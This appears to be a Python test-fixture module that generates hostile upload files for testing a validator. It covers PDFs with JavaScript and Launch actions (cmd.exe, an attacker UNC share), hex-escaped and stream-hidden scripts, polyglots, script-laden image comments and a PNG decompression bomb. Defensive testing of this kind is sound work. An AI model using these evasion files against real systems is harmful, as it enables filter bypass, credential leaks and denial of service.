"""Hostile upload files, made here byte by byte (not mocked).

Each builder returns a file a real reader or browser would act on: a PDF
that runs JavaScript or launches a program when a staff member opens it, a
file that is both a PDF (or image) and a web page, an image whose header
promises more pixels than the server should ever allocate.
"""

from __future__ import annotations

import io
import struct
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.dossiers.files import make_pdf, make_png

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# --- PDFs written with pypdf -------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=420, height=595)
    return writer


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(f"/{kind}")
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def pdf_open_action_js() -> bytes:
    """The issue's case: JavaScript run as soon as the document opens."""
    writer = _one_page()
    action = writer._add_object(_action("JavaScript", JS=TextStringObject("app.alert(1);")))
    writer._root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def _add_named_js(writer: PdfWriter, script: str) -> None:
    action = writer._add_object(_action("JavaScript", JS=TextStringObject(script)))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("mo-tep"), action])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def pdf_named_js() -> bytes:
    """Document-level JavaScript in the /Names tree (run on open by Acrobat)."""
    writer = _one_page()
    _add_named_js(writer, "app.alert('names');")
    return _written(writer)


def pdf_page_aa_launch() -> bytes:
    """A page's additional action (/AA /O: on page open) launching a program."""
    writer = _one_page()
    launch = _action("Launch", F=TextStringObject("cmd.exe"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch})
    return _written(writer)


def _link(writer: PdfWriter, action: DictionaryObject) -> None:
    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)])
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect,
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_link_launch() -> bytes:
    """A link annotation that starts a program (or a UNC path: NTLM leak)."""
    writer = _one_page()
    _link(writer, _action("Launch", F=TextStringObject("\\\\attacker\\share\\x.exe")))
    return _written(writer)


def pdf_link_uri(uri: str = "https://dichvucong.gov.vn/") -> bytes:
    """An ordinary web link, as a word processor writes it: must stay accepted."""
    writer = _one_page()
    _link(writer, _action("URI", URI=TextStringObject(uri)))
    return _written(writer)


def pdf_open_action_goto() -> bytes:
    """Open on page 1 fitted to the window: a harmless /OpenAction."""
    writer = _one_page()
    destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer._root_object[NameObject("/OpenAction")] = destination
    return _written(writer)


def pdf_embedded_file() -> bytes:
    writer = _one_page()
    writer.add_attachment("hoa-don.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _written(writer)


def pdf_xfa_form() -> bytes:
    writer = _one_page()
    xfa = writer._add_object(DictionaryObject())
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
    )
    return _written(writer)


def pdf_rich_media() -> bytes:
    writer = _one_page()
    rect = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)])
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): rect,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def pdf_encrypted_with_js() -> bytes:
    """JavaScript inside an encrypted file: its strings cannot be inspected."""
    writer = _one_page()
    _add_named_js(writer, "app.alert('chiffre');")
    writer.encrypt(user_password="", owner_password="chu-so-huu")
    return _written(writer)


# --- PDFs written by hand (what pypdf's writer would never produce) -----------

_PAGE_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R %s>>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] >>",
]


def _classic_pdf(objects: list[bytes], *, tail: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out) + tail


def pdf_hex_escaped_js() -> bytes:
    """/J#61vaScript is /JavaScript to a reader, but not to a naive byte search."""
    objects = list(_PAGE_OBJECTS)
    objects[0] = objects[0] % b"/OpenAction 4 0 R "
    objects.append(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    return _classic_pdf(objects)


def pdf_js_in_object_stream() -> bytes:
    """The JavaScript action hidden in a compressed object stream (PDF 1.5):
    no name of it appears in the raw bytes, only a parser can see it."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    index = b"5 0 "
    packed = zlib.compress(index + hidden)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(index),
        len(packed),
    )
    bodies = [catalog, _PAGE_OBJECTS[1], _PAGE_OBJECTS[2], objstm + packed + b"\nendstream"]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    # Cross-reference stream: type 1 = at an offset, type 2 = inside object 4.
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows.append(struct.pack(">BIH", 2, 4, 0))
    rows.append(b"")  # object 6 (the xref stream itself) filled in below
    xref_at = len(out)
    rows[-1] = struct.pack(">BIH", 1, xref_at, 0)
    data = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(
        data
    )
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_orphan_js() -> bytes:
    """A JavaScript object no cross-reference points to; a reader that rebuilds
    a damaged file's table finds it, a parser following the table does not."""
    return make_pdf() + b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


def pdf_broken_tail() -> bytes:
    """A PDF truncated in the middle of its page tree: unparseable."""
    good = _classic_pdf([_PAGE_OBJECTS[0] % b"", _PAGE_OBJECTS[1], _PAGE_OBJECTS[2]])
    return good[: good.index(b"2 0 obj") + 20]


# --- Polyglots ---------------------------------------------------------------


def pdf_then_html() -> bytes:
    """A valid PDF with a web page after %%EOF: a browser sniffing it runs the script."""
    return make_pdf() + b"\n" + HTML


def pdf_html_in_header_comment() -> bytes:
    """Markup in a PDF comment inside the first kilobyte."""
    good = make_pdf()
    newline = good.index(b"\n") + 1
    return good[:newline] + b"%" + HTML + b"\n" + good[newline:]


def pdf_after_long_prefix() -> bytes:
    """More than the 1024 bytes the PDF specification allows before %PDF-."""
    return b"A" * 1500 + b"\n" + make_pdf()


def jpeg_pdf_polyglot() -> bytes:
    """A valid JPEG whose comment segment holds a whole PDF starting within
    its first kilobyte: a PDF reader opens it as a document."""
    good = make_jpeg()
    pdf = make_pdf()
    segment = b"\xff\xfe" + struct.pack(">H", len(pdf) + 2) + pdf
    return good[:2] + segment + good[2:]


def png_with_svg_chunk() -> bytes:
    """A valid PNG carrying SVG markup in a text chunk."""
    good = make_png()
    chunk = _png_chunk(
        b"tEXt", b"Comment\x00<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>"
    )
    return good[:33] + chunk + good[33:]  # after the signature (8) and IHDR (25)


def jpeg_with_script_comment() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 20), (30, 120, 30)).save(out, format="JPEG")
    good = out.getvalue()
    comment = b"<IFRAME src=javascript:alert(1)></IFRAME>"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return good[:2] + segment + good[2:]  # right after SOI


def make_jpeg(width: int = 40, height: int = 20) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 30, 160)).save(out, format="JPEG")
    return out.getvalue()


# --- Images ------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, idat: bytes) -> bytes:
    """A PNG whose header promises width×height; every chunk CRC is right, so
    only decoding the data shows it is not a picture."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_huge_garbage() -> bytes:
    """The issue's case: 12000×12000 pixels claimed, garbage data."""
    return png_claiming(12000, 12000, bytes(range(256)) * 16)


def png_small_garbage() -> bytes:
    """A plausible 40×20 header over data that does not decompress."""
    return png_claiming(40, 20, b"\x78\x9c" + bytes(range(7, 250)))


def png_bomb() -> bytes:
    """A real, tiny file that decompresses to 12000×12000 pixels (432 MB)."""
    row = b"\x00" * (1 + 12000 * 3)  # filter byte + one row of black pixels
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(12000)) + packer.flush()
    return png_claiming(12000, 12000, idat)


def jpeg_truncated() -> bytes:
    good = make_jpeg(400, 300)
    return good[: len(good) // 2]


def jpeg_claiming_huge() -> bytes:
    """A small JPEG whose frame header (SOF0) is edited to claim 30000×30000."""
    good = bytearray(make_jpeg())
    sof = good.index(b"\xff\xc0")
    struct.pack_into(">HH", good, sof + 5, 30000, 30000)
    return bytes(good)
